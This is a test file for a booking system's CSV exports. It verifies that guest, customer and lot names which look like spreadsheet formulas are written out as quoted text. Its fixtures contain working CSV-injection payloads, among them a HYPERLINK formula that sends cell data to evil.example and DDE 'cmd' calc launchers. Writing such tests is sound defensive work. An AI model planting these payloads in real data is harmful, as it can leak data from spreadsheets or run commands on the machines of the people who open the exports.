/**
 * CSV (formula) injection in every CSV the product writes (issue 20, finding 7): a guest, a customer or an
 * admin-named lot whose text starts a spreadsheet formula reaches the bookings and customers exports and
 * the KPI summary as text (prefixed with `'`, OWASP), never as a formula; money stays a number.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bookingDoc, bookingFixtures, type Fixtures } from '../test/booking-fixtures';
import { insertBooking } from '../test/booking-rows';
import { createUser, login } from '../test/factories';
import { api, createTestServer, doc, one, type TestServer } from '../test/server';

const API = '/backend/api/v1';
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"x")';
const CALC = "+cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const AT = '@SUM(1+9)*cmd|/C calc!A0';
/** What a spreadsheet shows as text: the cell prefixed with a single quote. */
const text = (cell: string) => `'${cell}`;

let server: TestServer;
let f: Fixtures;
let admin: string;

const csv = async (url: string) => {
  const response = await server.app.inject({
    method: 'GET',
    url,
    headers: { authorization: `Token ${admin}` },
  });
  expect(response.statusCode, response.body).toBe(200);
  return response.body;
};
const rowsOf = (body: string) => parse(body, { bom: true, columns: true }) as Array<Record<string, string>>;
/** No cell of the file, header included, starts a formula, except a plain number. */
const formulaCells = (body: string) =>
  (parse(body, { bom: true }) as string[][])
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

beforeAll(async () => {
  server = await createTestServer();
  f = await bookingFixtures(server.handle.db);
  await createUser(server.handle.db, { email: 'admin@example.com', roles: ['Admins'] });
  admin = await login(server.app, 'admin@example.com');
});
afterAll(() => server.close());

describe('bookings/export/', () => {
  it('exports a guest’s formula-like names, business and vehicle as text, and money as numbers', async () => {
    const booked = await api(server.app, 'POST', `${API}/bookings/`, {
      body: bookingDoc(f, {
        attributes: {
          firstName: HYPERLINK,
          lastName: CALC,
          business: AT,
          make: MINUS,
          model: '=1+1',
          colour: '@x',
          rego: 'INJ 001',
        },
      }),
    });
    expect(booked.status, JSON.stringify(booked.body)).toBe(201);
    // Tab and carriage return are trimmed by the API's rules, but rows can hold them (older data, imports).
    await insertBooking(server.handle.db, {
      lotId: f.indoor.id,
      startDatetime: new Date('2026-12-01T06:00:00+11:00'),
      rego: 'INJ002',
      firstName: '\t=1+1',
      lastName: '\r=1+1',
    });

    const body = await csv(`${API}/bookings/export/?filter[rego__icontains]=INJ`);
    const rows = rowsOf(body);
    expect(rows).toHaveLength(2);
    const guest = rows.find((row) => row.Rego === 'INJ001');
    const imported = rows.find((row) => row.Rego === 'INJ002');
    expect(guest).toMatchObject({
      'First Name': text(HYPERLINK),
      'Last Name': text(CALC),
      Business: text(AT),
      Make: text(MINUS),
      Model: text('=1+1'),
      Colour: text('@x'),
      Rego: 'INJ001',
      Parking: '52.00',
    });
    expect(imported).toMatchObject({
      'First Name': text('\t=1+1'),
      'Last Name': text('\r=1+1'),
      Total: '25.00',
    });
    expect(formulaCells(body)).toEqual([]);
  });
});

describe('customers/export/', () => {
  it('exports a customer’s formula-like names and business as text', async () => {
    const created = await api(server.app, 'POST', `${API}/customers/`, {
      token: admin,
      body: doc('customers', {
        title: 'Mr',
        firstName: CALC,
        lastName: HYPERLINK,
        email: 'formula@example.com',
        phoneNumber: '+61 400 000 000',
        business: MINUS,
      }),
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const body = await csv(`${API}/customers/export/?filter[search]=formula%40example`);
    expect(rowsOf(body)).toEqual([
      expect.objectContaining({
        'First Name': text(CALC),
        'Last Name': text(HYPERLINK),
        'Phone Number': text('+61 400 000 000'),
        Business: text(MINUS),
        Email: 'formula@example.com',
      }),
    ]);
    expect(formulaCells(body)).toEqual([]);
  });
});

describe('kpi-summary-csv/', () => {
  it('writes a lot named like a formula as text in its column headers', async () => {
    const renamed = await api(server.app, 'PATCH', `${API}/lots/${f.indoor.id}/`, {
      token: admin,
      body: doc('lots', { name: HYPERLINK }, { id: String(f.indoor.id) }),
    });
    expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
    expect(one(renamed.body).attributes.name).toBe(HYPERLINK);
    const body = await csv(`${API}/kpi-summary-csv/?month=2026-12-01`);
    const [header] = parse(body, { bom: true }) as string[][];
    expect(header).toContain(text(`${HYPERLINK} cars parked`));
    expect(header).toContain(text(`${HYPERLINK} fill %`));
    expect(formulaCells(body)).toEqual([]);
  });
});
